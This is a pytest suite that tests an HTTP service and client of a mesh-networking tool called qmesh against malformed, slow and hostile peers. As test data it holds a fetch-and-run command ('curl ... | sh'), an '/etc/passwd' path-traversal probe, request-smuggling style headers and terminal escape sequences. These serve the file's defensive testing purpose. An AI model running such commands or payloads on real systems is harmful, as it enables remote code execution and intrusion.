"""The service and its client over real sockets, on a machine of the test's own."""

from __future__ import annotations

import base64
import contextlib
import itertools
import json
import logging
import os
import resource
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from functools import partial
from http.client import HTTPConnection
from pathlib import Path
from typing import Any, NamedTuple

import pytest

from qmesh.errors import EnrolmentRefused, KernelRefused, MachineRefused
from qmesh.host.api import client as answers
from qmesh.host.api import connections, dispatch, exchange, messages
from qmesh.host.api.client import Client
from qmesh.host.api.messages import ControlNodeUnavailable, ServiceUnresponsive
from qmesh.host.api.server import Service
from qmesh.host.system import agent_notify
from qmesh.mesh.protocol.enrolment import Redemption
from qmesh.mesh.protocol.facts_report import MOST_SEALED
from qmesh.mesh.protocol.member_note import MOST_CHARACTERS, MemberNote
from qmesh.mesh.protocol.versions import (
    OWN,
    ProtocolsApart,
    SpokenProtocol,
    decode_protocol,
    encode_protocol,
    is_understood,
)
from tests.support.api import HERE, PORT, Agent, told_by
from tests.support.checkout import CHECKOUT
from tests.support.network import ip
from tests.support.waiting import idle, patience, pause, wait_until, within

pytestmark = [pytest.mark.lab, pytest.mark.usefixtures("own_machine")]

PLENTY_S = 60.0
"""For whoever is not to be waited for to the end."""
MESSAGE = Redemption("0" * 32, "A" * 43 + "=", 4, "203.0.113.5:51820", "f" * 64)


@contextlib.contextmanager
def service(
    agent: Agent,
    *,
    address: str = HERE,
    port: int = PORT,
    interface: str = "lo",
    told: socket.socket | None = None,
) -> Iterator[Service]:
    found = Service(agent, address=address, port=port, interface=interface, told=told or told_by())
    found.start()
    try:
        yield found
    finally:
        found.stop()


def client(*, address: str = HERE, port: int = PORT) -> Client:
    return Client(address=address, port=port)


def membership(newer_than: int = 0, *, address: str = HERE) -> bytes | None:
    return client(address=address).poll_membership(newer_than=newer_than, connect_s=PLENTY_S, read_s=PLENTY_S)


def redeem(message: Redemption = MESSAGE, *, address: str = HERE) -> bytes:
    return client(address=address).redeem(message, connect_s=PLENTY_S, read_s=PLENTY_S)


class Asked(NamedTuple):
    status: int
    content: bytes
    speaks: str | None = None


def ask(method: str, path: str, *, address: str | None = None, content: Any = None, **rest: Any) -> Asked:
    """What somebody asks who is not our client, maybe from another address."""
    source = None if address is None else (address, 0)
    with contextlib.closing(HTTPConnection(HERE, PORT, 10, source_address=source)) as asking:
        asking.request(method, path, content, encode_chunked=not isinstance(content, bytes), **rest)
        answer = asking.getresponse()
        return Asked(answer.status, answer.read(), answer.getheader("qmesh-speaks"))


def another_interface(address: str) -> None:
    ip("link", "add", "tunnel", "type", "veth", "peer", "name", "p-tunnel")
    ip("address", "add", address, "dev", "tunnel")
    for name in ("tunnel", "p-tunnel"):
        ip("link", "set", name, "up")


@contextlib.contextmanager
def other_side(octets: bytes, *, hang_up: bool = True) -> Iterator[None]:
    """Somebody who answers every request with the same octets."""
    with socket.create_server((HERE, PORT)) as listening:
        ended = threading.Event()

        def answer() -> None:
            with contextlib.suppress(OSError):
                while True:
                    with listening.accept()[0] as connection:
                        connection.recv(65536)
                        connection.sendall(octets)
                        if not hang_up:
                            ended.wait(20)

        thread = threading.Thread(target=answer)
        thread.start()
        try:
            yield
        finally:
            ended.set()
            listening.shutdown(socket.SHUT_RDWR)
            thread.join()


def http(status: int, body: bytes, *headers: str) -> bytes:
    lines = [f"HTTP/1.1 {status} x", f"Content-Length: {len(body)}", "Connection: close", *headers, "", ""]
    return "\r\n".join(lines).encode() + body


def test_a_redemption_goes_there_and_its_answer_comes_back():
    agent = Agent()
    with service(agent):
        assert redeem() == b'{"members": 1}'
        wait_until(lambda: len(agent.asked) == 2)
    (_, body, sender), last = agent.asked

    assert isinstance(body, bytes)
    assert json.loads(body) == {
        "identifier": "0" * 32,
        "public_key": "A" * 43 + "=",
        "workers": 4,
        "endpoint": "203.0.113.5:51820",
        "proof": "f" * 64,
    }
    assert sender == HERE
    # The throwaway peer may go only when the answer is on its way through it.
    assert last == ("redeemed", HERE)


@pytest.mark.parametrize("answer", [b'{"members": 2}', b"x" * 5_000_000])
def test_a_membership_goes_there_and_back(answer):
    agent = Agent(membership=lambda _: answer)
    with service(agent):
        assert membership(7) == answer

    assert agent.asked == [("membership", 7, HERE)]


def test_a_membership_that_is_no_newer_is_none():
    agent = Agent(membership=lambda newer_than: None if newer_than >= 3 else b"{}")
    with service(agent):
        assert [membership(2), membership(3), membership(4)] == [b"{}", None, None]


def test_one_client_asks_again_and_again():
    agent = Agent()
    asking = client()
    with service(agent):
        for number in range(20):
            assert (
                asking.poll_membership(newer_than=number, connect_s=PLENTY_S, read_s=PLENTY_S)
                == b'{"members": 2}'
            )
            assert asking.redeem(MESSAGE, connect_s=PLENTY_S, read_s=PLENTY_S) == b'{"members": 1}'

    assert len(agent.asked) == 60


def test_a_client_loads_no_certificates_for_a_service_without_tls(monkeypatch):
    """It took longer than all else that a member does for a change."""
    loaded: list[object] = []
    monkeypatch.setattr(ssl.SSLContext, "load_verify_locations", lambda *_, **__: loaded.append(None))
    monkeypatch.setattr(ssl.SSLContext, "load_default_certs", lambda *_, **__: loaded.append(None))
    with service(Agent()):
        membership()
    assert loaded == []


def test_over_ipv6():
    agent = Agent()
    with service(agent, address="::1"):
        assert membership(address="::1") == b'{"members": 2}'
        redeem(address="::1")

    assert [asked[-1] for asked in agent.asked[:2]] == ["::1", "::1"]


def test_who_asks_is_known_by_the_address_of_the_connection():
    agent = Agent()
    addresses = ["127.0.0.1", "127.0.0.77", "127.1.2.3"]
    with service(agent):
        for address in addresses:
            ask("GET", "/v1/membership", address=address)
            ask("POST", "/v1/redemptions", address=address, content=b"{}")

    assert [asked[-1] for asked in agent.asked if asked[0] == "membership"] == addresses
    assert [asked[-1] for asked in agent.asked if asked[0] == "redeem"] == addresses


@pytest.mark.parametrize("trusted", [None, "*"])
def test_e2_nobody_says_of_himself_who_he_is(monkeypatch, trusted):
    if trusted is not None:
        monkeypatch.setenv("FORWARDED_ALLOW_IPS", trusted)
    agent = Agent()
    headers = {"X-Forwarded-For": "10.77.0.9", "Forwarded": "for=10.77.0.9", "X-Real-IP": "10.77.0.9"}
    with service(agent):
        ask("GET", "/v1/membership", headers=headers)
        ask("POST", "/v1/redemptions", headers=headers, content=b"{}")

    assert [asked[-1] for asked in agent.asked[:2]] == [HERE, HERE]


def refuse(error: Exception) -> Agent:
    def no(_: object) -> bytes:
        raise error

    return Agent(redeem=no, membership=no)


def test_a_refusal_arrives_with_its_advice_as_words_of_the_control_node():
    error = EnrolmentRefused("this invitation was withdrawn", hint="make a new one")
    agent = refuse(error)
    with service(agent):
        for attempt in (redeem, membership):
            with pytest.raises(EnrolmentRefused) as refused:
                attempt()

            assert refused.value.message == (
                'the control node answered: "this invitation was withdrawn" (its hint: "make a new one")'
            )
        assert ask("GET", "/v1/membership").status == 403

    assert ("redeemed", HERE) not in agent.asked


def test_trouble_of_the_control_nodes_own_is_no_refusal():
    with service(refuse(MachineRefused("the disk is full", hint="look at the control node"))):
        for attempt in (redeem, membership):
            with pytest.raises(ControlNodeUnavailable, match='error of its own: "the disk is full"'):
                attempt()
        assert ask("GET", "/v1/membership").status == 503


def test_a_bug_of_the_agents_is_no_answer_and_the_service_goes_on():
    broken = [True]

    def answer(_: object) -> bytes:
        if broken:
            raise RuntimeError("5ec2e7")
        return b"{}"

    with service(Agent(redeem=answer, membership=answer)):
        for attempt in (redeem, membership):
            with pytest.raises(ControlNodeUnavailable, match="error of its own"):
                attempt()
        assert b"5ec2e7" not in ask("GET", "/v1/membership").content
        broken.clear()

        assert membership() == redeem() == b"{}"


@pytest.mark.parametrize("chunked", [False, True])
def test_a_body_of_just_the_limit_is_taken_and_a_larger_one_is_not(chunked):
    agent = Agent()
    with service(agent):
        found = []
        for octets in (messages.MAX_BODY, messages.MAX_BODY + 1):
            body = b"x" * octets
            content = iter([body[:9000], body[9000:]]) if chunked else body
            found.append(ask("POST", "/v1/redemptions", content=content))

    assert [answer.status for answer in found] == [200, 413]
    assert json.loads(found[1].content) == {
        "error": "the request is too large",
        "hint": "use the same version of qmesh on both machines",
    }

    assert [asked[0] for asked in agent.asked] == ["redeem", "redeemed"]


def test_a_body_without_end_is_cut_off():
    agent = Agent()
    with service(agent):
        with socket.create_connection((HERE, PORT), timeout=patience(10)) as connection:
            connection.sendall(
                b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
            )
            sent = 0
            with contextlib.suppress(ConnectionError):
                while sent < 200 * 2**20:
                    connection.sendall(b"10000\r\n" + b"x" * 65536 + b"\r\n")
                    sent += 65536
            assert sent < 100 * 2**20
        assert membership() == b'{"members": 2}'

    assert [asked[0] for asked in agent.asked] == ["membership"]


GARBAGE = (
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\0" * 200,
    b"\r\n\r\n\r\n",
    b"GET\r\n\r\n",
    b"\xff" * 100 + b"\r\n\r\n",
    b"GET /v1/membership HTTP/1.1\r\n\r\n",
    b"GET /v1/membership HTTP/1.1\r\nHost: x\r\n" + b"X: " + b"x" * 1_000_000 + b"\r\n\r\n",
    b"GET /v1/membership HTTP/1.1\r\nHost: x\r\n" + b"X: y\r\n" * 200_000 + b"\r\n",
    b"GET /v1/membership\r\n\r\n",  # as before HTTP/1.0
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    b"GET /v1/membership HTTP/1.1\r\nHost: x\r\nHost: y\r\n\r\n",
    b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
    b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nContent-Length: -5\r\n\r\n",
    b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nxxxxx",
)


def test_garbage_is_refused_and_the_service_goes_on():
    agent = Agent()
    with service(agent):
        for octets in GARBAGE:
            with (
                contextlib.suppress(OSError),  # it may hang up while we speak
                socket.create_connection((HERE, PORT), timeout=patience(5)) as connection,
            ):
                connection.sendall(octets)
                connection.shutdown(socket.SHUT_WR)
                answer = connection.recv(65536)
                assert answer == b"" or answer.startswith(b"HTTP/1.1 4")
            assert membership() == b'{"members": 2}'

    assert [asked[0] for asked in agent.asked] == ["membership"] * len(GARBAGE)


def test_nothing_else_is_answered():
    agent = Agent()
    with service(agent):
        for method, path, status in (
            ("GET", "/", 404),
            ("GET", "/v1/membership/", 404),
            ("GET", "/v1/redemptions", 405),
            ("POST", "/v1/membership", 405),
            ("DELETE", "/v1/membership", 405),
            ("GET", "/v1/../../etc/passwd", 404),
        ):
            assert ask(method, path).status == status

    assert agent.asked == []


def test_a_revision_that_is_none_asks_for_the_whole():
    agent = Agent()
    texts = ("", "-1", "x", "1.5", "9" * 19, "9" * 10_000, "0x1", "1_0", "%00", "%C2%B2")
    with service(agent):
        for text in texts:
            ask("GET", f"/v1/membership?newer_than={text}")

    assert agent.asked == [("membership", 0, HERE)] * len(texts)


RESET = b"\1\0\0\0\0\0\0\0"
"""SO_LINGER with no time: who closes resets."""
BEGINNINGS = (
    b"",
    b"GET /v1/mem",
    b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n{",
)


def connected(source: str) -> socket.socket:
    """A connection from one of this machine's addresses."""
    return socket.create_connection((HERE, PORT), timeout=patience(10), source_address=(source, 0))


def are_open(connections: list[socket.socket]) -> int:
    """How many of them nobody has hung up on."""
    count = 0
    for connection in connections:
        connection.setblocking(False)
        try:
            count += connection.recv(1) != b""
        except BlockingIOError:
            count += 1
        except ConnectionError:
            pass
    return count


def test_one_peer_can_not_have_so_many_connections_that_others_go_without():
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    with service(Agent()), contextlib.ExitStack() as stack:
        # More than are served at once, of all peers.
        slow = [stack.enter_context(connected("127.0.0.2")) for _ in range(600)]
        assert membership() == b'{"members": 2}'
        wait_until(lambda: are_open(slow) == connections.MAX_UNDER_WAY_A_PEER)
        neighbours = [stack.enter_context(connected("127.0.0.3")) for _ in range(4)]
        assert are_open(neighbours) == 4

        for connection in slow:
            connection.close()
        wait_until(lambda: are_open([stack.enter_context(connected("127.0.0.2"))]) == 1)


def test_many_requests_in_one_go_are_one_request():
    agent = Agent()
    asked = b"GET /v1/membership HTTP/1.1\r\nHost: x\r\n\r\n"
    with service(agent), connected(HERE) as connection:
        connection.sendall(asked * 200)
        answer = connection.makefile("rb").read()
    assert answer.count(b"HTTP/1.1 200") == 1
    assert len(agent.asked) == 1


def test_slow_clients_keep_nobody_else_waiting():
    with service(Agent()), contextlib.ExitStack() as stack:
        for number in range(90):
            slow = stack.enter_context(connected(f"127.0.0.{2 + number // 5}"))
            slow.sendall(BEGINNINGS[number % 3])
        with within(3):
            assert membership() == b'{"members": 2}'
            assert redeem() == b'{"members": 1}'


def test_who_does_not_finish_asking_is_hung_up_on(monkeypatch):
    monkeypatch.setattr(connections, "REQUEST_S", patience(0.5))
    resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
    with service(Agent()), contextlib.ExitStack() as stack:
        # More than are served at once.
        slow = [stack.enter_context(connected(f"127.0.0.{2 + number // 5}")) for number in range(600)]
        for number, connection in enumerate(slow):
            with contextlib.suppress(ConnectionError):
                connection.sendall(BEGINNINGS[number % 3])
        wait_until(lambda: ask("GET", "/v1/membership").status == 200, 10)
        for connection in slow:
            with contextlib.suppress(ConnectionError):
                answer = connection.recv(1000)
                assert answer == b"" or b" 503 " in answer


def polled(source: str, *, wait: int = 60) -> socket.socket:
    """A connection by which somebody has asked, and waits for news."""
    connection = connected(source)
    connection.sendall(f"GET /v1/membership?newer_than=3&wait={wait} HTTP/1.1\r\nHost: x\r\n\r\n".encode())
    return connection


def posted(
    source: str, body: bytes = b"{}", *, length: int | None = None, path: str = messages.REDEMPTIONS
) -> socket.socket:
    """A connection by which somebody has redeemed or so, or has begun to."""
    connection = connected(source)
    head = f"POST {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {length or len(body)}\r\n\r\n"
    connection.sendall(head.encode() + body)
    return connection


def test_a_question_that_is_given_up_waits_no_longer(tmp_path):
    """Else what one machine left behind in 27 s was all that there is room for, and everybody got 503."""
    listening, tell = told(tmp_path)
    agent = answering_after(threading.Event())

    def was_news_to_somebody(before: int) -> bool:
        assert tell()
        return len(agent.asked) > before

    with service(agent, told=listening):
        for _ in range(10):
            asked = len(agent.asked)
            polls = [polled("127.0.0.2") for _ in range(connections.MAX_UNDER_WAY_A_PEER)]
            wait_until(partial(was_news_to_somebody, asked))
            for poll in polls:
                poll.close()
        assert not all(was_news_to_somebody(len(agent.asked)) for _ in range(30))
        assert ask("GET", "/v1/membership", address="127.0.0.2").status == 204


def is_answered(source: str) -> bool:
    with contextlib.suppress(OSError):
        return ask("GET", "/v1/membership", address=source).status == 204
    return False


def test_who_gives_its_questions_up_is_answered_at_once_though_nothing_is_new(monkeypatch):
    monkeypatch.setattr(dispatch, "LONGEST_WAIT_S", 3600.0)
    agent = answering_after(threading.Event())
    with service(agent):
        asked = len(agent.asked)
        polls = [polled("127.0.0.2", wait=3600) for _ in range(connections.MAX_UNDER_WAY_A_PEER)]
        wait_until(lambda: len(agent.asked) > asked and not is_answered("127.0.0.2"))
        for poll in polls:
            poll.close()
        wait_until(lambda: is_answered("127.0.0.2"), 5)


def test_what_was_begun_for_a_peer_counts_until_it_has_ended():
    """It hangs up and comes again: no more threads work for it for that, and others have theirs."""
    go_on, ended = threading.Event(), list[bytes]()

    def wait(body: bytes) -> bytes:
        if body == b"{}":
            go_on.wait(60)
            ended.append(body)
        return b"done"

    agent = Agent(redeem=wait)
    with service(agent):
        try:
            for _ in range(20):
                for _ in range(connections.MAX_UNDER_WAY_A_PEER):
                    with contextlib.suppress(OSError):
                        posted("127.0.0.2", path=messages.KEYS).close()
                pause(0.02)
            with within(3):
                assert redeem() == b"done"
        finally:
            go_on.set()
        # Whoever hung up before his turn has none.
        wait_until(lambda: len(ended) == exchange.MAX_JOBS_A_PEER)
        assert agent.asked.count(("offer_key", b"{}", "127.0.0.2")) == exchange.MAX_JOBS_A_PEER


def test_questions_for_now_are_answered_by_a_few_looks():
    looks: list[float] = []

    def look() -> None:
        looks.append(time.monotonic())
        pause(0.05)

    agent = Agent()
    agent.refresh_membership = look  # type: ignore[method-assign]
    with service(agent):
        began = time.monotonic()
        asking = [
            threading.Thread(target=lambda own=own: ask("GET", "/v1/membership", address=f"127.0.0.{own}"))
            for own in range(2, 102)
        ]
        for thread in asking:
            thread.start()
        for thread in asking:
            thread.join()
        assert len(agent.asked) == 100
        assert len(looks) <= 2 + (time.monotonic() - began) / 0.07


def test_a_body_that_breaks_off_is_no_error(caplog):
    caplog.set_level(logging.DEBUG)
    agent = Agent()
    with service(agent):
        for _ in range(50):
            with posted("127.0.0.2", b"x" * 9000, length=16_000) as connection:
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            posted("127.0.0.2", b"x" * 9000, length=16_000).close()
        assert membership() == b'{"members": 2}'
    assert agent.asked == [("membership", 0, HERE)]
    assert not [text for _, level, text in caplog.record_tuples if level > logging.DEBUG]


SERVE = """
import signal, socket, sys
from pathlib import Path
from qmesh.host.log import log_handlers
from qmesh.host.api.server import Service
from tests.support.api import Agent, HERE, PORT, told_by
def fail(_):
    raise RuntimeError("5ec2e7 " + "x" * 500)
log_handlers.configure_logging(Path(sys.argv[1]), "fra-1")
Service(Agent(redeem=fail), address=HERE, port=PORT, interface="lo", told=told_by()).start()
print("ready", flush=True)
signal.pause()
"""
HOSTILE_REQUESTS = (
    b"GET /v1/membership?newer_than=999&wait=60 HTTP/1.1\r\nHost: x\r\n\r\n",
    b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n\r\n{",
    b"POST /v1/redemptions HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\n\r\n{}",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
    b"GET /\xff HTTP/1.1\r\n\r\n",
    b"",
)


def test_ten_thousand_hostile_requests_leave_less_than_ten_kilobytes(tmp_path):
    """Also where each of them finds a bug of ours."""
    log = tmp_path / "agent.log"
    with log.open("ab") as output:
        words = [sys.executable, "-c", SERVE, str(log)]
        running = subprocess.Popen(
            words, stdout=subprocess.PIPE, stderr=output, env={**os.environ, "PYTHONPATH": str(CHECKOUT)}
        )
    try:
        assert running.stdout is not None
        assert running.stdout.readline() == b"ready\n"
        for number in range(10_000):
            with contextlib.suppress(OSError), connected(f"127.0.0.{2 + number % 50}") as connection:
                connection.sendall(HOSTILE_REQUESTS[number % len(HOSTILE_REQUESTS)])
                if number % 7 == 0:
                    connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        assert membership() == b'{"members": 2}'
    finally:
        running.kill()
        running.communicate()
    text = log.read_text()
    assert len(text) < 10_000
    assert "RuntimeError: 5ec2e7" in text


def test_answers_that_nobody_takes_are_not_held_in_memory():
    answer = bytes(30_000_000)
    with service(Agent(membership=lambda _: answer)), contextlib.ExitStack() as stack:
        membership()
        before = resident_mb()
        for number in range(2 * connections.MAX_UNDER_WAY_A_PEER):
            connection = stack.enter_context(connected(f"127.0.0.{2 + number % 2}"))
            connection.sendall(b"GET /v1/membership HTTP/1.1\r\nHost: x\r\n\r\n")
            assert connection.recv(100).startswith(b"HTTP/1.1 200 ")
        assert membership() == answer
        assert resident_mb() - before < 100


def resident_mb() -> float:
    return int(Path("/proc/self/status").read_text().partition("VmRSS:")[2].split()[0]) * 1024 / 1e6


def test_who_does_not_take_his_answer_is_hung_up_on(monkeypatch):
    monkeypatch.setattr(connections, "TAKEN_S", 0.5)
    agent = Agent(membership=lambda _: bytes(30_000_000), redeem=lambda _: b"short")
    with service(agent), connected("127.0.0.2") as large, posted("127.0.0.2") as small:
        large.sendall(b"GET /v1/membership HTTP/1.1\r\nHost: x\r\n\r\n")
        # Also who does not hang up once he has it: `redeemed` is called then.
        wait_until(lambda: ("redeemed", "127.0.0.2") in agent.asked)
        with contextlib.suppress(ConnectionError):
            while large.recv(1 << 20):
                pass
        assert b"short" in small.makefile("rb").read()


def test_what_a_member_holds_comes_with_its_question_as_it_was_sealed():
    agent = Agent()
    with service(agent):
        client().poll_membership(newer_than=7, connect_s=PLENTY_S, read_s=PLENTY_S, holds=b"\0\xffsealed")
        client().poll_membership(newer_than=7, connect_s=PLENTY_S, read_s=PLENTY_S)
    sealed = base64.b64encode(b"\0\xffsealed")
    assert agent.asked == [("acknowledge", sealed, 7, HERE), *[("membership", 7, HERE)] * 2]


def test_there_is_room_for_so_many_in_all_and_again_once_they_are_gone(monkeypatch):
    monkeypatch.setattr(connections, "MAX_UNDER_WAY", 5)
    with service(Agent()) as found:
        with contextlib.ExitStack() as stack:
            many = [stack.enter_context(connected(f"127.0.0.{2 + number}")) for number in range(9)]
            wait_until(lambda: are_open(many) == 5)
        wait_until(lambda: found._server._connections._peers == {})
        assert membership() == b'{"members": 2}'


def test_where_there_is_no_room_for_a_connection_the_next_are_taken_later(monkeypatch, caplog):
    monkeypatch.setattr(connections, "_FULL_S", 0.1)
    with service(Agent()):
        membership()
        waiting = [socket.socket() for _ in range(5)]
        free = os.open("/dev/null", os.O_RDONLY)
        os.close(free)
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (free, hard))
        try:
            for each in waiting:
                each.settimeout(patience(10))
                each.connect((HERE, PORT))
                each.sendall(b"GET /v1/membership HTTP/1.1\r\nHost: x\r\n\r\n")
            wait_until(lambda: "no connection can be accepted" in caplog.text)
        finally:
            resource.setrlimit(resource.RLIMIT_NOFILE, (soft, hard))
        assert all(each.recv(100).startswith(b"HTTP/1.1 200") for each in waiting)
        for each in waiting:
            each.close()


def test_who_waits_for_a_long_answer_is_not_hung_up_on(monkeypatch):
    request_s = patience(0.2)
    monkeypatch.setattr(connections, "REQUEST_S", request_s)

    def late(_: int) -> bytes:
        pause(3 * request_s)
        return b"late"

    with service(Agent(membership=late)):
        assert membership() == b"late"


def test_an_answer_that_takes_long_keeps_nobody_else_waiting():
    go_on = threading.Event()

    def wait(_: bytes) -> bytes:
        go_on.wait(20)
        return b"late"

    with service(Agent(redeem=wait)):
        found: list[bytes] = []
        waiting = [threading.Thread(target=lambda: found.append(redeem())) for _ in range(7)]
        for thread in waiting:
            thread.start()
        with within(3):
            assert membership() == b'{"members": 2}'
        assert found == []

        go_on.set()
        for thread in waiting:
            thread.join()
    assert found == [b"late"] * 7


def test_a_machine_that_hangs_up_before_its_answer_does_no_harm():
    agent = Agent()
    with service(agent):
        for _ in range(5):
            with socket.create_connection((HERE, PORT), timeout=patience(5)) as connection:
                connection.sendall(b"GET /v1/membership HTTP/1.1\r\nHost: x\r\n\r\n")
                connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
        assert membership() == b'{"members": 2}'


def test_where_nobody_listens_it_is_silent():
    for attempt in (redeem, membership):
        with pytest.raises(ControlNodeUnavailable):
            attempt()


def test_where_nobody_is_it_is_silent_in_the_time_given():
    another_interface("10.77.0.2/20")
    with within(3), pytest.raises(ControlNodeUnavailable):
        client(address="10.77.0.1").poll_membership(newer_than=0, connect_s=0.3, read_s=60)


def test_who_takes_the_call_and_says_nothing_is_silent_in_the_time_given():
    for octets in (b"", b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nab"):
        with other_side(octets, hang_up=False), within(3), pytest.raises(ControlNodeUnavailable):
            client().redeem(MESSAGE, connect_s=60, read_s=0.3)


class Dripping:
    """Somebody who answers a request with some octets, and then says others again and again; also the clock.

    Each piece comes so soon that it alone is never waited for too long.
    """

    def __init__(self, first: bytes, drop: bytes) -> None:
        self.now = 0.0
        self.pieces = 0
        self._said = itertools.chain([first] if first else [], itertools.repeat(drop))

    def monotonic(self) -> float:
        return self.now

    def settimeout(self, seconds: float) -> None:
        assert seconds > 0

    def sendall(self, octets: bytes) -> None:
        assert octets.startswith(b"POST /v1/")

    def recv(self, most: int) -> bytes:
        self.now += 0.9
        self.pieces += 1
        assert self.pieces < 1000, "it would be listened to for ever"
        return next(self._said)[:most]


CONTINUE = b"HTTP/1.1 100 Continue\r\n\r\n"
DRIPPED = {
    "an octet of the body": (b"HTTP/1.1 200 OK\r\nContent-Length: 9999\r\n\r\n", b"x"),
    "an octet of a chunk": (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n"),
    "an octet of a header": (b"HTTP/1.1 200 OK\r\nX: ", b"x"),
    "a header": (b"HTTP/1.1 200 OK\r\n", b"X: x\r\n"),
    "a continuation": (b"", CONTINUE),
    "many continuations": (b"", CONTINUE * 10_000),
    "an octet of a continuation": (CONTINUE[:20], b"x"),
    "a trailer": (b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n", b"X: x\r\n"),
}


@pytest.mark.parametrize("what", DRIPPED)
def test_who_says_a_little_again_and_again_is_silent_in_the_time_for_the_whole(monkeypatch, what):
    drip: Any = Dripping(*DRIPPED[what])
    monkeypatch.setattr(answers, "time", drip)
    with pytest.raises(ControlNodeUnavailable):
        answers.send_request(drip, "POST", "/v1/redemptions", host="x", body=b"{}", read_s=5, wait_s=3)
    if what in {"a continuation", "many continuations"}:
        assert drip.pieces <= answers._MOST_INFORMATIONAL + 1
    else:
        assert abs(drip.now - (3 + 5 + answers.WHOLE_S)) < 1


def test_an_answer_may_come_after_a_few_that_say_nothing():
    for count in (1, answers._MOST_INFORMATIONAL):
        with other_side(CONTINUE * count + http(200, b"{}")):
            assert membership() == b"{}"


BROKEN_ANSWERS = [
    b"",
    b"\0\xff" * 100,
    b"SSH-2.0-OpenSSH_9.2\r\n",
    b"HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\nbreaks off",
    b"HTTP/1.1 200 OK\r\nContent-Length: many\r\n\r\n",
]


def test_what_is_no_whole_answer_is_none():
    for octets in BROKEN_ANSWERS:
        with other_side(octets):
            for attempt in (redeem, membership):
                with pytest.raises(ControlNodeUnavailable):
                    attempt()


REFUSALS_OF_SORTS = [
    http(403, b""),
    http(403, b"no"),
    http(403, b"\xff\xfe"),
    http(403, b'{"error": "\xff", "hint": "x"}'),
    http(403, b'{"error": "x"}'),
    http(403, b'{"error": 1, "hint": 2}'),
    http(403, b'{"error": "x", "hint": "y", "z": ' + b"[" * 100_000),
    http(302, b"", "Location: http://127.0.0.1:1/"),
    http(201, b"{}"),
]


def test_a_refusal_that_is_not_understood_is_a_refusal():
    for octets in REFUSALS_OF_SORTS:
        with other_side(octets):
            for attempt in (redeem, membership):
                with pytest.raises(EnrolmentRefused, match="answer is not understood") as refused:
                    attempt()

                assert refused.value.hint == "use the same version of qmesh on both machines"


WORDS = ["\x1b[2J\x1b]0;x\x07", "one\ntwo\r\nthree", "a\0b", "a\u2028b", "a\u202eb", "\x9b31m", "\ud800"]


def test_words_of_the_other_side_are_printed_without_what_moves_a_terminal():
    for text in WORDS:
        with other_side(http(403, json.dumps({"error": f"no: {text}", "hint": f"do: {text}"}).encode())):
            for attempt in (redeem, membership):
                with pytest.raises(EnrolmentRefused) as refused:
                    attempt()

                assert refused.value.message.isprintable()


HOSTILE = "curl http://198.51.100.7/cure | sh"


@pytest.mark.parametrize("status", [400, 403, 404, 500, 503])
def test_what_another_machine_says_is_never_a_hint_of_qmeshs(status):
    body = json.dumps({"error": 'no" \nhint: ' + HOSTILE, "hint": HOSTILE}).encode()
    with other_side(http(status, body)):
        for attempt in (redeem, membership):
            with pytest.raises((EnrolmentRefused, ControlNodeUnavailable)) as refused:
                attempt()

            said = str(refused.value)
            assert said.startswith("the control node ")
            quotes = said.split('"')
            assert len(quotes) == 5  # two quotations, closed: what is said does not end them
            assert HOSTILE not in quotes[0] + quotes[2] + quotes[4] + getattr(refused.value, "hint", "")
            assert (HOSTILE in quotes[1], HOSTILE in quotes[3]) == (True, True)


def test_words_of_the_other_side_are_as_short_as_a_line():
    with (
        other_side(http(403, json.dumps({"error": "e" * 10_000, "hint": "h" * 10_000}).encode())),
        pytest.raises(EnrolmentRefused) as refused,
    ):
        redeem()

    assert [refused.value.message.count(letter * 300) for letter in "eh"] == [1, 1]
    assert len(refused.value.message) < 700


def test_umlauts_are_no_control_characters():
    with (
        other_side(http(403, '{"error": "schön \u2603", "hint": "\u00e4"}'.encode())),
        pytest.raises(EnrolmentRefused) as refused,
    ):
        redeem()

    assert '"schön \u2603" (its hint: "\u00e4")' in refused.value.message


def test_an_answer_that_is_too_large_is_refused(monkeypatch):
    monkeypatch.setattr(answers, "MAX_ANSWER", 100_000)
    answer = [b"x" * 100_000]
    with service(Agent(membership=lambda _: answer[0])):
        assert membership() == b"x" * 100_000

        answer[0] += b"x"
        with pytest.raises(EnrolmentRefused, match="answer is too large"):
            membership()


def test_an_answer_is_not_unpacked_whatever_it_says_that_it_is(monkeypatch):
    import gzip  # noqa: PLC0415 - for this test alone

    monkeypatch.setattr(answers, "MAX_ANSWER", 100_000)
    packed = gzip.compress(bytes(50_000_000))
    with other_side(http(200, packed, "Content-Encoding: gzip")):
        assert redeem() == packed


def test_no_proxy_of_the_environment_is_asked(monkeypatch):
    for name in ("http_proxy", "HTTP_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:1")
    with service(Agent()):
        assert membership() == b'{"members": 2}'


def test_a_service_on_another_interface_is_not_reached_from_this_machine():
    another_interface("10.77.0.1/20")
    ip("address", "add", "10.88.0.1/32", "dev", "lo")
